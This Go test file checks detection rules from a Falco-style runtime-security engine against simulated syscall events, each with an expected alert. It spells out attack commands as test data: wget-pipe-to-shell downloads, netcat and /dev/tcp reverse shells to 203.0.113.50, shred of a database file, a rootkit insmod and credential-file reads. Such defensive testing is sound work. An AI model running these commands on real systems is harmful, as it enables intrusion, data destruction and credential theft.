package enginetest_test

import (
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"syscall"
	"testing"
	"time"

	"github.com/truesightsec/truesight/internal/engine"
	"github.com/truesightsec/truesight/internal/enginetest"
	"github.com/truesightsec/truesight/internal/fields"
	"github.com/truesightsec/truesight/internal/output"
	"github.com/truesightsec/truesight/internal/rules"
	"github.com/truesightsec/truesight/internal/testenv"
)

// stableRules returns the path of upstream's stable ruleset
// (falcosecurity/rules 5.1.0) in the conformance data.
func stableRules(t *testing.T) string {
	t.Helper()
	return filepath.Join(testenv.ConformanceDir(t), "falco", "falco_rules.yaml")
}

// Container ids, 64 hex digits as runtimes name them.
const (
	phpID      = "196d0a328b12df938af4dae5f7653c9a95edf83ac9f89a5577150f66c62f4505"
	nginxID    = "cac8e6081f5347a7a30834b944012890983de673169f29e3289d99c643502b4f"
	paymentsID = "83022dc2e16575b39e72f3406fe4cd864f319510b2e621dca17b6fa76d882656"
	promID     = "b693d22e359aaa2fcad3a43ae17cdd47aabdd94f65080933a62cb459ad9fa34d"
	netshootID = "2baf81de09af049665e51b8392a028a40d9a9086e0e791bc7a86344618494b2f"
	debugID    = "183a29b0788fe4e2d759f3dbe33ec061ab65961fcd5e8e1ed39cff05564cbf0f"
	shopAPIID  = "f0ab3297fc24a3cdc2fe51b62e9284c24618b5103d76869cf5c728e575159145"
	labID      = "2dc9dac2fff7ffc53bfb52405c44fd7c956081b1dc88f9ab4ab4661284db17e0"
)

// Addresses: a cloud VM's private address talking to documentation-range
// public hosts (RFC 5737), pod addresses, and the kubernetes service.
var (
	vmAddr     = netip.MustParseAddr("172.31.18.40")
	attacker   = netip.MustParseAddr("203.0.113.50")
	sshRelay   = netip.MustParseAddr("198.51.100.23")
	podAddr    = netip.MustParseAddr("10.244.1.17")
	apiService = netip.MustParseAddr("10.96.0.1")
	dockerAddr = netip.MustParseAddr("172.17.0.4")
)

func ap(a netip.Addr, port uint16) netip.AddrPort { return netip.AddrPortFrom(a, port) }

// redirect is "bash -i >& /dev/tcp/...": process b connects a TCP socket
// from local to remote and duplicates it onto newfd.
func redirect(b *enginetest.P, local, remote netip.AddrPort, newfd int64) *fields.Ctx {
	c := enginetest.Connect(b, local, remote)
	return enginetest.Dup2(b, c.Evt.FD.Num, newfd)
}

// Process trees. Each call builds a fresh tree.

// systemd is PID 1 of the host.
func systemd() *enginetest.P {
	return enginetest.Proc("/usr/lib/systemd/systemd", "--switched-root", "--system", "--deserialize", "31")
}

// shim is the containerd shim that parents a container's processes; its
// comm is its file name cut to 15 bytes.
func shim() *enginetest.P {
	return systemd().Child("/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-address", "/run/containerd/containerd.sock")
}

// sshLogin is the login shell of an ssh session: systemd > sshd -D >
// sshd -D -R (per connection) > sshd (privilege-separated, as the user) >
// -bash.
func sshLogin(uid uint32, user, home string, tty uint32) *enginetest.P {
	return systemd().Child("/usr/sbin/sshd", "-D").Started(enginetest.Ago(48*time.Hour)).
		Child("/usr/sbin/sshd", "-D", "-R").
		Fork().User(uid, user).Login(int64(uid), user).
		Child("-bash").Cwd(home).TTY(tty).Session()
}

// alice is an ordinary user's shell on pts/0.
func alice() *enginetest.P { return sshLogin(1000, "alice", "/home/alice/", enginetest.PTS(0)) }

// rootShell is alice's "sudo -i" root shell.
func rootShell() *enginetest.P {
	return alice().Child("sudo", "-i").User(0, "root").Child("-bash").Cwd("/root/")
}

// cronJob is a root cron job's "sh -c cmd".
func cronJob(cmd string) *enginetest.P {
	return systemd().Child("/usr/sbin/cron", "-f").Fork().Login(0, "root").Cwd("/root/").
		Child("/bin/sh", "-c", cmd).ExePath("/usr/bin/dash")
}

// phpWorker is a php-fpm worker of a PHP web container, running as
// www-data below the pool master (the container's init).
func phpWorker() *enginetest.P {
	web := enginetest.NewContainer(phpID, "shop-web", "php:8.2-fpm")
	return shim().Child("php-fpm").ExePath("/usr/local/sbin/php-fpm").In(web).Cwd("/var/www/html/").
		Fork().User(33, "www-data")
}

// nginxWorker is an nginx worker of a web container, running as nginx.
func nginxWorker() *enginetest.P {
	web := enginetest.NewContainer(nginxID, "shop-frontend", "nginx:1.27")
	return shim().Child("nginx", "-g", "daemon off;").ExePath("/usr/sbin/nginx").In(web).
		Fork().User(101, "nginx")
}

// hostNginx is the nginx master on the host, started by systemd ago.
func hostNginx(ago time.Duration) *enginetest.P {
	return systemd().Child("/usr/sbin/nginx", "-g", "daemon on; master_process on;").Started(enginetest.Ago(ago))
}

// podShell is /bin/sh as the entrypoint of a payments pod.
func podShell() *enginetest.P {
	c := enginetest.NewContainer(paymentsID, "k8s_api_payments-7d9f8b6c4d-x2x7p_prod", "registry.example.com/payments/api:2.4.1").
		Pod("prod", "payments-7d9f8b6c4d-x2x7p")
	return shim().Child("/bin/sh").ExePath("/usr/bin/dash").In(c)
}

// debugShell is an interactive bash in an ubuntu container.
func debugShell(privileged bool) *enginetest.P {
	c := enginetest.NewContainer(debugID, "node-debugger", "ubuntu:24.04")
	if privileged {
		c.Privileged()
	}
	return shim().Child("/bin/bash").ExePath("/usr/bin/bash").In(c).TTY(enginetest.PTS(0))
}

// shopAPI is the node server of an API container.
func shopAPI() *enginetest.P {
	c := enginetest.NewContainer(shopAPIID, "shop-api", "registry.example.com/shop/api:2.4.1")
	return shim().Child("node", "server.js").ExePath("/usr/local/bin/node").In(c).Cwd("/app/")
}

// stableCase is one event against one rule. A firing case names the exact
// alert line the rule must produce; a near-miss (want "") must not fire it.
type stableCase struct {
	rule string
	name string
	evt  func() *fields.Ctx
	want string
}

var stableCases = []stableCase{
	// Directory traversal monitored file read.
	{
		rule: "Directory traversal monitored file read",
		name: "web worker reads /etc/passwd through ../ segments",
		evt: func() *fields.Ctx {
			return enginetest.Open(phpWorker(), "/var/www/html/../../../etc/passwd", enginetest.ORdOnly)
		},
		want: "09:26:53.589793238: Warning Read monitored file via directory traversal | file=/etc/passwd fileraw=/var/www/html/../../../etc/passwd gparent=containerd-shim ggparent=systemd gggparent=<NA> evt_type=openat user=www-data user_uid=33 user_loginuid=-1 process=php-fpm proc_exepath=/usr/local/sbin/php-fpm parent=php-fpm command=php-fpm terminal=0",
	},
	{
		rule: "Directory traversal monitored file read",
		name: "failed probe for root's ssh key through ../ segments",
		evt: func() *fields.Ctx {
			return enginetest.OpenFailed(phpWorker(), "/var/www/html/../../../root/.ssh/id_rsa", enginetest.ORdOnly, syscall.EACCES)
		},
		want: "09:26:53.589793238: Warning Read monitored file via directory traversal | file=/root/.ssh/id_rsa fileraw=/var/www/html/../../../root/.ssh/id_rsa gparent=containerd-shim ggparent=systemd gggparent=<NA> evt_type=openat user=www-data user_uid=33 user_loginuid=-1 process=php-fpm proc_exepath=/usr/local/sbin/php-fpm parent=php-fpm command=php-fpm terminal=0",
	},
	{
		rule: "Directory traversal monitored file read",
		name: "web worker reads /etc/passwd by its absolute path",
		evt: func() *fields.Ctx {
			return enginetest.Open(phpWorker(), "/etc/passwd", enginetest.ORdOnly|enginetest.OCloexec)
		},
	},
	{
		rule: "Directory traversal monitored file read",
		name: "cat with a relative ../ path below a shell",
		evt: func() *fields.Ctx {
			return enginetest.Open(alice().Child("cat", "../../etc/passwd"), "../../etc/passwd", enginetest.ORdOnly)
		},
	},

	// Read sensitive file trusted after startup.
	{
		rule: "Read sensitive file trusted after startup",
		name: "nginx master reads /etc/shadow hours after start",
		evt: func() *fields.Ctx {
			return enginetest.Open(hostNginx(3*time.Hour), "/etc/shadow", enginetest.ORdOnly|enginetest.OCloexec)
		},
		want: "09:26:53.589793238: Warning Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=systemd --switched-root --system --deserialize 31 gparent=<NA> ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=nginx proc_exepath=/usr/sbin/nginx parent=systemd command=nginx -g daemon on; master_process on; terminal=0",
	},
	{
		// docker_binaries is defined after the server_procs macro that
		// names it: lists resolve regardless of order.
		rule: "Read sensitive file trusted after startup",
		name: "dockerd reads /etc/shadow hours after start",
		evt: func() *fields.Ctx {
			dockerd := systemd().Child("/usr/bin/dockerd", "-H", "fd://", "--containerd=/run/containerd/containerd.sock").
				Started(enginetest.Ago(26 * time.Hour))
			return enginetest.Open(dockerd, "/etc/shadow", enginetest.ORdOnly|enginetest.OCloexec)
		},
		want: "09:26:53.589793238: Warning Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=systemd --switched-root --system --deserialize 31 gparent=<NA> ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=dockerd proc_exepath=/usr/bin/dockerd parent=systemd command=dockerd -H fd:// --containerd=/run/containerd/containerd.sock terminal=0",
	},
	{
		rule: "Read sensitive file trusted after startup",
		name: "nginx reads /etc/shadow within five seconds of starting",
		evt: func() *fields.Ctx {
			return enginetest.Open(hostNginx(2*time.Second), "/etc/shadow", enginetest.ORdOnly|enginetest.OCloexec)
		},
	},
	{
		rule: "Read sensitive file trusted after startup",
		name: "sshd reads /etc/shadow long after starting",
		evt: func() *fields.Ctx {
			sshd := systemd().Child("/usr/sbin/sshd", "-D").Started(enginetest.Ago(48 * time.Hour))
			return enginetest.Open(sshd, "/etc/shadow", enginetest.ORdOnly|enginetest.OCloexec)
		},
	},

	// Read sensitive file untrusted.
	{
		rule: "Read sensitive file untrusted",
		name: "cat /etc/shadow under sudo in an ssh session",
		evt: func() *fields.Ctx {
			cat := alice().Child("sudo", "cat", "/etc/shadow").User(0, "root").Child("cat", "/etc/shadow")
			return enginetest.Open(cat, "/etc/shadow", enginetest.ORdOnly)
		},
		want: "09:26:53.589793238: Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=bash ggparent=sshd gggparent=sshd evt_type=openat user=root user_uid=0 user_loginuid=1000 process=cat proc_exepath=/usr/bin/cat parent=sudo command=cat /etc/shadow terminal=34816",
	},
	{
		rule: "Read sensitive file untrusted",
		name: "python script reads a file in /etc/sudoers.d",
		evt: func() *fields.Ctx {
			py := rootShell().Child("python3", "/tmp/enum.py").ExePath("/usr/bin/python3.12")
			return enginetest.Open(py, "/etc/sudoers.d/90-cloud-init-users", enginetest.ORdOnly|enginetest.OCloexec)
		},
		want: "09:26:53.589793238: Warning Sensitive file opened for reading by non-trusted program | file=/etc/sudoers.d/90-cloud-init-users gparent=sudo ggparent=bash gggparent=sshd evt_type=openat user=root user_uid=0 user_loginuid=1000 process=python3 proc_exepath=/usr/bin/python3.12 parent=bash command=python3 /tmp/enum.py terminal=34816",
	},
	{
		rule: "Read sensitive file untrusted",
		name: "unix_chkpwd checks a password against /etc/shadow",
		evt: func() *fields.Ctx {
			chk := systemd().Child("/usr/sbin/sshd", "-D").Child("/usr/sbin/sshd", "-D", "-R").
				Child("/usr/sbin/unix_chkpwd", "alice", "chkexpiry")
			return enginetest.Open(chk, "/etc/shadow", enginetest.ORdOnly|enginetest.OCloexec)
		},
	},
	{
		rule: "Read sensitive file untrusted",
		name: "sudo reads /etc/sudoers",
		evt: func() *fields.Ctx {
			return enginetest.Open(alice().Child("sudo", "-i").User(0, "root"), "/etc/sudoers", enginetest.ORdOnly|enginetest.OCloexec)
		},
	},

	// Run shell untrusted.
	{
		rule: "Run shell untrusted",
		name: "nginx worker in a container spawns a downloader shell",
		evt: func() *fields.Ctx {
			sh := nginxWorker().Child("/bin/sh", "-c", "wget -qO- http://203.0.113.50/x.sh | sh").ExePath("/usr/bin/dash")
			return enginetest.Exec(sh)
		},
		want: "09:26:53.589793238: Notice Shell spawned by untrusted binary | parent_exe=nginx parent_exepath=/usr/sbin/nginx pcmdline=nginx -g daemon off; gparent=nginx ggparent=containerd-shim aname[4]=systemd aname[5]=<NA> aname[6]=<NA> aname[7]=<NA> evt_type=execve user=nginx user_uid=101 user_loginuid=-1 process=sh proc_exepath=/usr/bin/dash parent=nginx command=sh -c wget -qO- http://203.0.113.50/x.sh | sh terminal=0 exe_flags=EXE_LOWER_LAYER",
	},
	{
		rule: "Run shell untrusted",
		name: "nginx worker runs a known uname probe",
		evt: func() *fields.Ctx {
			return enginetest.Exec(nginxWorker().Child("/bin/sh", "-c", "uname -a 2>&1").ExePath("/usr/bin/dash"))
		},
	},
	{
		rule: "Run shell untrusted",
		name: "login shell starts a subshell",
		evt: func() *fields.Ctx {
			return enginetest.Exec(alice().Child("/bin/sh", "-c", "ls").ExePath("/usr/bin/dash"))
		},
	},

	// System user interactive.
	{
		rule: "System user interactive",
		name: "www-data runs whoami in an ssh session",
		evt: func() *fields.Ctx {
			return enginetest.Exec(sshLogin(33, "www-data", "/var/www/", enginetest.PTS(1)).Child("whoami"))
		},
		want: "09:26:53.589793238: Informational System user ran an interactive command | evt_type=execve user=www-data user_uid=33 user_loginuid=33 process=whoami proc_exepath=/usr/bin/whoami parent=bash command=whoami terminal=34817 exe_flags=0",
	},
	{
		rule: "System user interactive",
		name: "regular user runs whoami in an ssh session",
		evt:  func() *fields.Ctx { return enginetest.Exec(alice().Child("whoami")) },
	},
	{
		rule: "System user interactive",
		name: "www-data runs a cron job",
		evt: func() *fields.Ctx {
			job := systemd().Child("/usr/sbin/cron", "-f").Fork().User(33, "www-data").Login(33, "www-data").
				Child("/bin/sh", "-c", "php /var/www/app/cron.php").ExePath("/usr/bin/dash").
				Child("php", "/var/www/app/cron.php").ExePath("/usr/bin/php8.2")
			return enginetest.Exec(job)
		},
	},

	// Terminal shell in container.
	{
		rule: "Terminal shell in container",
		name: "kubectl exec -it starts bash in a pod",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(paymentsID, "k8s_api_payments-7d9f8b6c4d-x2x7p_prod", "registry.example.com/payments/api:2.4.1")
			return enginetest.Exec(shim().Child("/bin/bash").ExePath("/usr/bin/bash").In(c).TTY(enginetest.PTS(0)))
		},
		want: "09:26:53.589793238: Notice A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
	},
	{
		rule: "Terminal shell in container",
		name: "shell whose parent is no longer known",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(paymentsID, "k8s_api_payments-7d9f8b6c4d-x2x7p_prod", "registry.example.com/payments/api:2.4.1")
			return enginetest.Exec(enginetest.Proc("/bin/bash").ExePath("/usr/bin/bash").In(c).TTY(enginetest.PTS(2)))
		},
		want: "09:26:53.589793238: Notice A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=<NA> command=bash terminal=34818 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
	},
	{
		rule: "Terminal shell in container",
		name: "kubectl exec without a terminal",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(paymentsID, "k8s_api_payments-7d9f8b6c4d-x2x7p_prod", "registry.example.com/payments/api:2.4.1")
			return enginetest.Exec(shim().Child("/bin/sh", "-c", "cat /etc/os-release").ExePath("/usr/bin/dash").In(c))
		},
	},
	{
		rule: "Terminal shell in container",
		name: "login shell with a terminal on the host",
		evt:  func() *fields.Ctx { return enginetest.Exec(alice()) },
	},

	// Contact K8S API Server From Container. Falco resolves the rule's
	// kubernetes.default.svc.cluster.local with the cluster's DNS, which
	// answers the service address 10.96.0.1.
	{
		rule: "Contact K8S API Server From Container",
		name: "curl in a pod calls the API server",
		evt: func() *fields.Ctx {
			curl := podShell().Child("curl", "-sk", "https://kubernetes.default/api/v1/namespaces/kube-system/secrets")
			return enginetest.Connect(curl, ap(podAddr, 51234), ap(apiService, 443))
		},
		want: "09:26:53.589793238: Notice Unexpected connection to K8s API Server from container | connection=10.244.1.17:51234->10.96.0.1:443 lport=51234 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl -sk https://kubernetes.default/api/v1/namespaces/kube-system/secrets terminal=0",
	},
	{
		rule: "Contact K8S API Server From Container",
		name: "prometheus watches the API server",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(promID, "k8s_prometheus_prometheus-0_monitoring", "quay.io/prometheus/prometheus:v2.53.0")
			prom := shim().Child("/bin/prometheus", "--config.file=/etc/prometheus/prometheus.yml").In(c).User(65534, "nobody")
			return enginetest.Connect(prom, ap(podAddr, 40122), ap(apiService, 443))
		},
	},

	// Netcat Remote Code Execution in Container.
	{
		rule: "Netcat Remote Code Execution in Container",
		name: "nc -e hands a shell to a remote host",
		evt: func() *fields.Ctx {
			nc := podShell().Child("nc", "203.0.113.50", "4444", "-e", "/bin/sh").ExePath("/usr/bin/nc.traditional")
			return enginetest.Exec(nc)
		},
		want: "09:26:53.589793238: Warning Netcat runs inside container that allows remote code execution | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc.traditional parent=sh command=nc 203.0.113.50 4444 -e /bin/sh terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
	},
	{
		rule: "Netcat Remote Code Execution in Container",
		name: "ncat --sh-exec serves a shell over TLS",
		evt: func() *fields.Ctx {
			return enginetest.Exec(podShell().Child("ncat", "203.0.113.50", "443", "--ssl", "--sh-exec", "bash -i"))
		},
		want: "09:26:53.589793238: Warning Netcat runs inside container that allows remote code execution | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=ncat proc_exepath=/usr/bin/ncat parent=sh command=ncat 203.0.113.50 443 --ssl --sh-exec bash -i terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
	},
	{
		rule: "Netcat Remote Code Execution in Container",
		name: "nc -zv checks that a port is open",
		evt: func() *fields.Ctx {
			return enginetest.Exec(podShell().Child("nc", "-zv", "postgres", "5432").ExePath("/usr/bin/nc.traditional"))
		},
	},
	{
		rule: "Netcat Remote Code Execution in Container",
		name: "nc -e on the host",
		evt: func() *fields.Ctx {
			return enginetest.Exec(rootShell().Child("nc", "203.0.113.50", "4444", "-e", "/bin/sh").ExePath("/usr/bin/nc.traditional"))
		},
	},

	// Search Private Keys or Passwords.
	{
		rule: "Search Private Keys or Passwords",
		name: "grep for RSA private keys",
		evt: func() *fields.Ctx {
			return enginetest.Exec(alice().Child("grep", "-r", "BEGIN RSA PRIVATE", "/home"))
		},
		want: "09:26:53.589793238: Warning Grep private keys or passwords activities found | evt_type=execve user=alice user_uid=1000 user_loginuid=1000 process=grep proc_exepath=/usr/bin/grep parent=bash command=grep -r BEGIN RSA PRIVATE /home terminal=34816 exe_flags=0",
	},
	{
		rule: "Search Private Keys or Passwords",
		name: "find looks for id_rsa files",
		evt:  func() *fields.Ctx { return enginetest.Exec(alice().Child("find", "/", "-name", "id_rsa")) },
		want: "09:26:53.589793238: Warning Grep private keys or passwords activities found | evt_type=execve user=alice user_uid=1000 user_loginuid=1000 process=find proc_exepath=/usr/bin/find parent=bash command=find / -name id_rsa terminal=34816 exe_flags=0",
	},
	{
		rule: "Search Private Keys or Passwords",
		name: "grep for certificates",
		evt: func() *fields.Ctx {
			return enginetest.Exec(alice().Child("grep", "-r", "BEGIN CERTIFICATE", "/etc/ssl/certs"))
		},
	},

	// Clear Log Activities.
	{
		rule: "Clear Log Activities",
		name: "root truncates auth.log with a shell redirect",
		evt: func() *fields.Ctx {
			return enginetest.Open(rootShell(), "/var/log/auth.log", enginetest.OWrOnly|enginetest.OCreat|enginetest.OTrunc)
		},
		want: "09:26:53.589793238: Warning Log files were tampered | file=/var/log/auth.log evt_type=openat user=root user_uid=0 user_loginuid=1000 process=bash proc_exepath=/usr/bin/bash parent=sudo command=bash terminal=34816",
	},
	{
		rule: "Clear Log Activities",
		name: "rsyslogd appends to auth.log",
		evt: func() *fields.Ctx {
			rsyslogd := systemd().Child("/usr/sbin/rsyslogd", "-n", "-iNONE").User(104, "syslog").Group(4, "adm")
			return enginetest.Open(rsyslogd, "/var/log/auth.log", enginetest.OWrOnly|enginetest.OAppend|enginetest.OCreat|enginetest.OCloexec)
		},
	},
	{
		rule: "Clear Log Activities",
		name: "truncating a build log outside the log directories",
		evt: func() *fields.Ctx {
			return enginetest.Open(alice(), "/home/alice/build/out.log", enginetest.OWrOnly|enginetest.OCreat|enginetest.OTrunc)
		},
	},

	// Remove Bulk Data from Disk.
	{
		rule: "Remove Bulk Data from Disk",
		name: "shred wipes a database file",
		evt: func() *fields.Ctx {
			return enginetest.Exec(rootShell().Child("shred", "-u", "-z", "-n", "3", "/var/lib/mysql/ibdata1"))
		},
		want: "09:26:53.589793238: Warning Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 user_loginuid=1000 process=shred proc_exepath=/usr/bin/shred parent=bash command=shred -u -z -n 3 /var/lib/mysql/ibdata1 terminal=34816 exe_flags=EXE_WRITABLE",
	},
	{
		rule: "Remove Bulk Data from Disk",
		name: "mkfs.ext4 is not named mkfs",
		evt: func() *fields.Ctx {
			return enginetest.Exec(rootShell().Child("/usr/sbin/mkfs.ext4", "/dev/nvme1n1"))
		},
	},

	// Create Symlink Over Sensitive Files.
	{
		rule: "Create Symlink Over Sensitive Files",
		name: "symlink to /etc/shadow in /tmp",
		evt: func() *fields.Ctx {
			return enginetest.Symlink(alice().Child("ln", "-s", "/etc/shadow", "/tmp/.s"), "/etc/shadow", "/tmp/.s")
		},
		want: "09:26:53.589793238: Warning Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/.s evt_type=symlinkat user=alice user_uid=1000 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln parent=bash command=ln -s /etc/shadow /tmp/.s terminal=34816",
	},
	{
		rule: "Create Symlink Over Sensitive Files",
		name: "web shell links the root directory into the web root",
		evt: func() *fields.Ctx {
			ln := phpWorker().Child("/bin/sh", "-c", "ln -s / /var/www/html/r").ExePath("/usr/bin/dash").
				Child("ln", "-s", "/", "/var/www/html/r")
			return enginetest.Symlink(ln, "/", "/var/www/html/r")
		},
		want: "09:26:53.589793238: Warning Symlinks created over sensitive files | target=/ linkpath=/var/www/html/r evt_type=symlinkat user=www-data user_uid=33 user_loginuid=-1 process=ln proc_exepath=/usr/bin/ln parent=sh command=ln -s / /var/www/html/r terminal=0",
	},
	{
		rule: "Create Symlink Over Sensitive Files",
		name: "enabling an nginx site",
		evt: func() *fields.Ctx {
			ln := rootShell().Child("ln", "-s", "/etc/nginx/sites-available/shop", "/etc/nginx/sites-enabled/shop")
			return enginetest.Symlink(ln, "/etc/nginx/sites-available/shop", "/etc/nginx/sites-enabled/shop")
		},
	},

	// Create Hardlink Over Sensitive Files.
	{
		rule: "Create Hardlink Over Sensitive Files",
		name: "root hard-links /etc/shadow",
		evt: func() *fields.Ctx {
			return enginetest.Link(rootShell().Child("ln", "/etc/shadow", "/var/tmp/.cache"), "/etc/shadow", "/var/tmp/.cache")
		},
		want: "09:26:53.589793238: Warning Hardlinks created over sensitive files | target=/etc/shadow linkpath=/var/tmp/.cache evt_type=linkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln parent=bash command=ln /etc/shadow /var/tmp/.cache terminal=34816",
	},
	{
		rule: "Create Hardlink Over Sensitive Files",
		name: "hard link to /etc/passwd, which is not on the sensitive list",
		evt: func() *fields.Ctx {
			return enginetest.Link(rootShell().Child("ln", "/etc/passwd", "/var/tmp/passwd.bak"), "/etc/passwd", "/var/tmp/passwd.bak")
		},
	},

	// Packet socket created in container. Falco does not track packet
	// sockets in its fd table, so every fd.* field is missing; evt.args
	// renders each parameter as "name=value(resolved) " with a trailing
	// space, hence the double space before connection=.
	{
		rule: "Packet socket created in container",
		name: "tcpdump opens a packet socket in a container",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(netshootID, "netshoot", "nicolaka/netshoot:v0.13")
			tcpdump := shim().Child("/bin/bash").ExePath("/usr/bin/bash").In(c).TTY(enginetest.PTS(0)).
				Child("tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap")
			return enginetest.Socket(tcpdump, "AF_PACKET", syscall.SOCK_RAW, 768)
		},
		want: "09:26:53.589793238: Notice Packet socket was created in a container | socket_info=fd=3 domain=17(AF_PACKET) type=3 proto=768 flags=0  connection=<NA> lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> evt_type=socket user=root user_uid=0 user_loginuid=-1 process=tcpdump proc_exepath=/usr/bin/tcpdump parent=bash command=tcpdump -i eth0 -w /tmp/cap.pcap terminal=34816",
		// socket's flags parameter has no names: libsinsp resolves none and
		// evt.args prints the bare number, but state.Machine's addParam
		// marks every flags parameter symbolic and prints num(text).
	},
	{
		rule: "Packet socket created in container",
		name: "ping opens an ICMP socket in a container",
		evt: func() *fields.Ctx {
			return enginetest.Socket(podShell().Child("ping", "-c", "1", "10.244.1.1"), "AF_INET", syscall.SOCK_DGRAM, syscall.IPPROTO_ICMP)
		},
	},
	{
		rule: "Packet socket created in container",
		name: "tcpdump on the host",
		evt: func() *fields.Ctx {
			return enginetest.Socket(rootShell().Child("tcpdump", "-i", "eth0"), "AF_PACKET", syscall.SOCK_RAW, 768)
		},
	},

	// Redirect STDOUT/STDIN to Network Connection in Container.
	{
		rule: "Redirect STDOUT/STDIN to Network Connection in Container",
		name: "reverse shell duplicates its socket onto stdin",
		evt: func() *fields.Ctx {
			bash := phpWorker().Child("/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'").ExePath("/usr/bin/dash").
				Child("bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1")
			return redirect(bash, ap(dockerAddr, 39712), ap(attacker, 4444), 0)
		},
		want: "09:26:53.589793238: Notice Redirect stdout/stdin to network connection | gparent=php-fpm ggparent=php-fpm gggparent=containerd-shim fd.sip=203.0.113.50 connection=172.17.0.4:39712->203.0.113.50:4444 lport=39712 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=www-data user_uid=33 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=sh command=bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1 terminal=0",
	},
	{
		rule: "Redirect STDOUT/STDIN to Network Connection in Container",
		name: "shell pipeline duplicates a pipe onto stdout",
		evt: func() *fields.Ctx {
			sh := podShell()
			enginetest.Pipe(sh)
			return enginetest.Dup2(sh, 4, 1) // the pipe's write end
		},
	},
	{
		rule: "Redirect STDOUT/STDIN to Network Connection in Container",
		name: "the same redirection on the host",
		evt: func() *fields.Ctx {
			bash := alice().Child("bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1")
			return redirect(bash, ap(vmAddr, 39712), ap(attacker, 4444), 0)
		},
	},

	// Linux Kernel Module Injection Detected.
	{
		rule: "Linux Kernel Module Injection Detected",
		name: "insmod loads a rootkit from a privileged container",
		evt: func() *fields.Ctx {
			insmod := debugShell(true).Child("insmod", "/tmp/diamorphine.ko").ExePath("/usr/bin/kmod")
			return enginetest.FinitModule(insmod, "/tmp/diamorphine.ko", 0)
		},
		want: "09:26:53.589793238: Warning Linux Kernel Module injection from container | parent_exepath=/usr/bin/bash gparent=containerd-shim gexepath=/usr/bin/containerd-shim-runc-v2 module=/tmp/diamorphine.ko res=SUCCESS evt_type=finit_module user=root user_uid=0 user_loginuid=-1 process=insmod proc_exepath=/usr/bin/kmod parent=bash command=insmod /tmp/diamorphine.ko terminal=34816",
	},
	{
		rule: "Linux Kernel Module Injection Detected",
		name: "insmod without CAP_SYS_MODULE in an unprivileged container",
		evt: func() *fields.Ctx {
			insmod := debugShell(false).Child("insmod", "/tmp/diamorphine.ko").ExePath("/usr/bin/kmod")
			return enginetest.FinitModule(insmod, "/tmp/diamorphine.ko", syscall.EPERM)
		},
	},
	{
		rule: "Linux Kernel Module Injection Detected",
		name: "modprobe on the host",
		evt: func() *fields.Ctx {
			modprobe := rootShell().Child("/usr/sbin/modprobe", "wireguard").ExePath("/usr/bin/kmod")
			return enginetest.FinitModule(modprobe, "/lib/modules/6.8.0-45-generic/kernel/drivers/net/wireguard/wireguard.ko.zst", 0)
		},
	},

	// Debugfs Launched in Privileged Container.
	{
		rule: "Debugfs Launched in Privileged Container",
		name: "debugfs opens the host disk from a privileged container",
		evt: func() *fields.Ctx {
			return enginetest.Exec(debugShell(true).Child("/usr/sbin/debugfs", "/dev/sda1"))
		},
		want: "09:26:53.589793238: Warning Debugfs launched started in a privileged container | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=debugfs proc_exepath=/usr/sbin/debugfs parent=bash command=debugfs /dev/sda1 terminal=34816 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
	},
	{
		rule: "Debugfs Launched in Privileged Container",
		name: "debugfs in an unprivileged container",
		evt: func() *fields.Ctx {
			return enginetest.Exec(debugShell(false).Child("/usr/sbin/debugfs", "/dev/sda1"))
		},
	},

	// Detect release_agent File Container Escapes.
	{
		rule: "Detect release_agent File Container Escapes",
		name: "shell in a CAP_SYS_ADMIN container writes release_agent",
		evt: func() *fields.Ctx {
			c := enginetest.NewContainer(labID, "escape-lab", "ubuntu:24.04")
			sh := shim().Child("/bin/sh").ExePath("/usr/bin/dash").In(c).TTY(enginetest.PTS(0)).
				Caps(append(enginetest.DockerDefaultCaps(), "CAP_SYS_ADMIN")...)
			return enginetest.Open(sh, "/tmp/cgrp/release_agent", enginetest.OWrOnly|enginetest.OCreat|enginetest.OTrunc)
		},
